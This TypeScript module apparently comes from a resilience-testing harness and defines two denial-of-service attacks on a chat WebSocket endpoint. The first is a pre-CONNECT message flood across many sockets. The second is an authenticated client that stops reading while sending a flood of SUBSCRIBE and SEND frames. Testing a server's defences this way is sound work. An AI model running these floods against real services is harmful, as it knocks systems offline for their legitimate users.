/**
 * Attacks on the chat socket (/rest/api/chat-websocket, STOMP 1.2 over a WebSocket), from a page of the site
 * itself as far as the server can tell (the right Origin).
 */
import WebSocket from 'ws';
import { jsonOf, loopbackAddress, request, sleep } from '../http';
import { tally } from '../stats';
import type { Attack, AttackContext } from './types';

const OPEN_TIMEOUT_MS = 5000;

function socketUrl(baseUrl: string): string {
  return `${baseUrl.replace(/^http/, 'ws')}/rest/api/chat-websocket`;
}

/** An open socket, or an error saying why not (refused upgrade, timeout). */
function openSocket(context: AttackContext, localAddress: string): Promise<WebSocket> {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(socketUrl(context.server.baseUrl), {
      origin: context.server.baseUrl,
      localAddress,
      handshakeTimeout: OPEN_TIMEOUT_MS,
    });
    socket.once('open', () => resolve(socket));
    socket.once('error', reject);
    socket.once('unexpected-response', (_request, response) => {
      socket.terminate();
      reject(new Error(`upgrade answered ${response.statusCode}`));
    });
  });
}

/** Resolves when the socket's unsent bytes are below `bytes`, it closed, or the deadline passed. */
async function drained(socket: WebSocket, bytes: number, deadline: number): Promise<void> {
  while (socket.bufferedAmount > bytes && socket.readyState === WebSocket.OPEN && Date.now() < deadline) await sleep(1);
}

/**
 * a. Four sockets that never send CONNECT, each sending two-byte messages as fast as it can: up to 30,000 a
 * socket (60 kB, under a frame's 64 kB), then, or as soon as the server closes it, a fresh socket, for the duration
 * (at most 500 sockets a lane, under the per-client limit of API calls a minute).
 */
const MESSAGE = 'A\n';
const FLOOD_SOCKETS = 4;
const MESSAGES_PER_SOCKET = 30_000;
/** A server that closes each socket early only makes the lane open the next: it keeps going for the duration. */
const SOCKETS_PER_LANE = 500;

async function floodLane(context: AttackContext, lane: number, deadline: number) {
  let opened = 0;
  let messages = 0;
  const refusals: string[] = [];
  while (Date.now() < deadline && opened + refusals.length < SOCKETS_PER_LANE) {
    let socket: WebSocket;
    try {
      socket = await openSocket(context, loopbackAddress(4, lane));
    } catch (error) {
      refusals.push((error as Error).message);
      await sleep(100);
      continue;
    }
    opened++;
    socket.on('error', () => undefined);
    for (let sent = 0; sent < MESSAGES_PER_SOCKET && Date.now() < deadline; sent++) {
      if (socket.readyState !== WebSocket.OPEN) break;
      socket.send(MESSAGE);
      messages++;
      // Only as fast as the connection takes them: a client's own memory stays small, and others get a turn.
      if (sent % 256 === 255) {
        await drained(socket, 64 * 1024, deadline);
        await new Promise((resolve) => setImmediate(resolve));
      }
    }
    socket.terminate();
  }
  return { opened, messages, refusals };
}

export const preConnectFlood: Attack = {
  key: 'a',
  name: 'a. pre-CONNECT flood, 4 sockets',
  async run(context) {
    const deadline = Date.now() + context.durationMs;
    const lanes = await Promise.all(
      Array.from({ length: FLOOD_SOCKETS }, (_, lane) => floodLane(context, lane, deadline)),
    );
    const opened = lanes.reduce((sum, lane) => sum + lane.opened, 0);
    const messages = lanes.reduce((sum, lane) => sum + lane.messages, 0);
    const refusals = lanes.flatMap((lane) => lane.refusals);
    if (opened === 0) throw new Error(`no chat socket could be opened: ${tally(refusals)}`);
    return {
      result: `${messages.toLocaleString('en')} msgs on ${opened} sockets${refusals.length ? `; not opened: ${tally(refusals)}` : ''}`,
    };
  },
};

/**
 * b. A signed-in client that stops reading: CONNECT, then (its socket paused, so nothing the server sends is
 * ever read) 1,000 SUBSCRIBEs to its own queue and 500 SENDs of a 2,000-character message, each of which the
 * server would deliver to every subscription.
 */
const SUBSCRIPTIONS = 1000;
const SENDS = 500;

function frame(command: string, headers: Record<string, string>, body = ''): string {
  return `${command}\n${Object.entries(headers)
    .map(([name, value]) => `${name}:${value}`)
    .join('\n')}\n\n${body}\0`;
}

/** The first frame the server sends after CONNECT (CONNECTED, or an ERROR saying why not). */
function firstFrame(socket: WebSocket): Promise<string> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('no answer to CONNECT within 10 s')), 10_000);
    socket.once('message', (data: Buffer) => {
      clearTimeout(timer);
      resolve(data.toString('utf8'));
    });
    socket.once('close', () => reject(new Error('the socket closed before CONNECTED')));
  });
}

export const subscribeFlood: Attack = {
  key: 'b',
  name: 'b. subscribe flood, client not reading',
  async run(context) {
    const { baseUrl } = context.server;
    const { buyer } = context;
    // Buyers write to the support address, which the conversation call names.
    const { responceId } = jsonOf<{ responceId: { admin: string } }>(
      await request(`${baseUrl}/rest/api/getchatuser?user=${encodeURIComponent(buyer.email)}`, {
        headers: { authorization: `Bearer ${buyer.token}` },
        timeoutMs: 30_000,
      }),
      'the support address (getchatuser)',
    );
    const deadline = Date.now() + context.durationMs;
    const socket = await openSocket(context, loopbackAddress(5, 0));
    let writeErrors = 0;
    let written = 0;
    socket.on('error', () => undefined);
    try {
      const connected = firstFrame(socket);
      socket.send(
        frame('CONNECT', {
          'accept-version': '1.2',
          host: '127.0.0.1',
          'heart-beat': '0,0',
          Authorization: `Bearer ${buyer.token}`,
        }),
      );
      const answer = await connected;
      if (!answer.startsWith('CONNECTED')) throw new Error(`CONNECT answered ${answer.slice(0, 200)}`);
      socket.pause();
      const send = (text: string) => socket.send(text, (error) => (error ? writeErrors++ : written++));
      const body = JSON.stringify({ to: responceId.admin, message: 'x'.repeat(2000) });
      const frames = [
        ...Array.from({ length: SUBSCRIPTIONS }, (_, i) =>
          frame('SUBSCRIBE', { id: `sub-${i}`, destination: '/user/queue/messages' }),
        ),
        ...Array.from({ length: SENDS }, () =>
          frame('SEND', { destination: '/app/chat', 'content-type': 'application/json' }, body),
        ),
      ];
      for (const [index, text] of frames.entries()) {
        if (Date.now() >= deadline || socket.readyState !== WebSocket.OPEN) break;
        send(text);
        if (index % 100 === 99) await drained(socket, 256 * 1024, deadline);
      }
      // Hold the unread connection open for the rest of the duration (a paused socket does not see a close).
      while (Date.now() < deadline && socket.readyState === WebSocket.OPEN) await sleep(50);
      return { result: `${written}/${frames.length} frames written${writeErrors ? `, ${writeErrors} refused` : ''}` };
    } finally {
      socket.terminate();
    }
  },
};

export const chatAttacks = [preConnectFlood, subscribeFlood];
